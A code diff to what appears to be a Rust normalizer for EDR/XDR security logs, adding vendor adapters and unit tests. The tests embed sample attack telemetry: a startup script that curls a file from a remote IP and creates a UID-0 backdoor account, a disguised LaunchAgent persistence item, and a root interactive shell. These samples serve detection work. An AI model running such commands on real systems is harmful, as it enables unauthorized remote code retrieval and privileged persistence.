@@ -8,6 +8,7 @@
 
 mod edr;
 mod generic;
+mod xdr;
 
 use crate::funcs;
 use serde_json::{Map, Value as Json};
@@ -626,6 +627,11 @@ pub fn normalize(mut obj: Map<String, Json>) -> (Map<String, Json>, Option<Strin
         edr::chronicle_udm,
         edr::cortex_xdr,
         edr::trend_workbench,
+        xdr::fireeye_hx,
+        xdr::uptycs,
+        xdr::cybereason,
+        xdr::carbon_black_edr,
+        xdr::tracee,
         edr::log_lines,
     ] {
         if let Some((ecs, vid)) = adapter(&obj) {
@@ -813,12 +819,14 @@ fn xml_text(v: &Json) -> Option<Json> {
     }
 }
 
-/// An attribute of an XML-derived element: `#attributes.Name` (evtx_dump) or `@Name` (xmltodict).
+/// An attribute of an XML-derived element: `#attributes.Name` (evtx_dump), `@Name` (xmltodict)
+/// or a plain `Name` beside the element's `#text` (converters that merge attributes).
 fn xml_attr<'a>(v: &'a Json, name: &str) -> Option<&'a Json> {
     let o = v.as_object()?;
     o.get("#attributes")
         .and_then(|a| a.get(name))
         .or_else(|| o.get(&format!("@{name}")))
+        .or_else(|| o.get(name).filter(|v| v.is_string()))
 }
 
 /// `{"Event": {"System": …, "EventData": …}}` (or `UserData`) as one flat NXLog-style record.
@@ -2296,6 +2304,7 @@ fn derive(e: &mut Map<String, Json>) {
                     "/private/",
                     "/Volumes/",
                     "/opt/homebrew/",
+                    "/var/folders/",
                 ]
                 .iter()
                 .any(|m| p.starts_with(m))
@@ -2485,6 +2494,22 @@ mod tests {
         assert_eq!(w.doc["host"]["name"], "MBP-8");
         assert_eq!(w.doc["host"]["os"]["type"], "macos");
         assert_eq!(w.doc["threat"]["technique"]["id"], json!(["T1059.004"]));
+        // A composite rule's earlier lines: a GCE startup script's own trace (`bash -x`).
+        let x = from_json(json!({"id": "w-2", "rule": {"mitre": {"id": ["T1136.001"]}}, "agent": {"name": "bastion-1"},
+            "full_log": "Nov  3 02:14:07 bastion-1 useradd[2291]: new user: name=gcp-svc, UID=0, GID=0",
+            "previous_output": "Nov  3 02:14:06 bastion-1 google_metadata_script_runner[2210]: startup-script: + curl -fsSL http://203.0.113.212/k.pub -o /tmp/.k\nNov  3 02:14:07 bastion-1 google_metadata_script_runner[2210]: startup-script: + useradd -o -u 0 -g 0 gcp-svc",
+            "data": {"dstuser": "gcp-svc", "uid": "0"}}), "x").unwrap();
+        assert_eq!(x.doc["process"]["name"], "curl");
+        assert_eq!(
+            x.doc["process"]["command_line"],
+            "curl -fsSL http://203.0.113.212/k.pub -o /tmp/.k\nuseradd -o -u 0 -g 0 gcp-svc"
+        );
+        assert_eq!(
+            x.doc["process"]["parent"]["name"],
+            "google_metadata_script_runner"
+        );
+        assert_eq!(x.doc["user"]["name"], "root");
+        assert_eq!(x.doc["host"]["name"], "bastion-1");
     }
 
     #[test]
@@ -2763,6 +2788,36 @@ mod tests {
         assert_eq!(es.doc["process"]["working_directory"], "/Users/ann");
         assert_eq!(es.doc["user"]["id"], "501");
         assert_eq!(es.doc["host"]["os"]["type"], "macos");
+        // The same event decoded by Filebeat under a key of its own, beside the shipper's host.
+        let wrapped = from_json(json!({"@timestamp": "2025-04-02T10:11:12Z", "host": {"name": "mbp-7"},
+            "eslogger": {"process": {"executable": {"path": "/bin/zsh"}, "audit_token": {"pid": 10, "euid": 0}},
+                "event": {"exec": {"target": {"executable": {"path": "/usr/bin/ssh"}, "audit_token": {"pid": 11, "euid": 0}},
+                    "args": ["ssh", "-o", "StrictHostKeyChecking=no", "svc@10.40.12.31"]}}}}), "x").unwrap();
+        assert_eq!(wrapped.doc["process"]["name"], "ssh");
+        assert_eq!(wrapped.doc["user"]["name"], "root");
+        assert_eq!(wrapped.doc["host"]["name"], "mbp-7");
+        // A LaunchAgent registered with Background Task Management: the program it will start.
+        let btm = from_json(json!({"hostname": "mbp-9", "time": "2025-04-28T13:05:58Z", "event_type": 124,
+            "process": {"executable": {"path": "/usr/libexec/backgroundtaskmanagementd"}},
+            "event": {"btm_launch_item_add": {"instigator": {"executable": {"path": "/private/tmp/a.out"}},
+                "item": {"item_type": 3, "legacy": true, "uid": 501, "item_url": "file:///Users/dk/Library/LaunchAgents/com.apple.sync.plist"},
+                "executable_path": "/Users/dk/Library/Application Support/.mdworker/sync.sh"}}}), "x").unwrap();
+        assert_eq!(
+            btm.doc["process"]["command_line"],
+            "\"/Users/dk/Library/Application Support/.mdworker/sync.sh\""
+        );
+        assert_eq!(btm.doc["process"]["name"], "sync.sh");
+        assert_eq!(btm.doc["process"]["parent"]["name"], "launchd");
+        assert_eq!(
+            btm.doc["process"]["parent"]["parent"]["executable"],
+            "/private/tmp/a.out"
+        );
+        assert_eq!(
+            btm.doc["file"]["path"],
+            "/Users/dk/Library/LaunchAgents/com.apple.sync.plist"
+        );
+        assert_eq!(btm.doc["user"]["name"], "dk");
+        assert_eq!(btm.doc["host"]["name"], "mbp-9");
         let oq = from_json(json!({"name": "pack_ir_process_events", "hostIdentifier": "web-03", "unixTime": 1743588672,
             "columns": {"pid": "8812", "path": "/usr/bin/bash", "cmdline": "bash -i", "parent": "8800", "uid": "0", "cwd": "/tmp"},
             "action": "added"}), "x").unwrap();
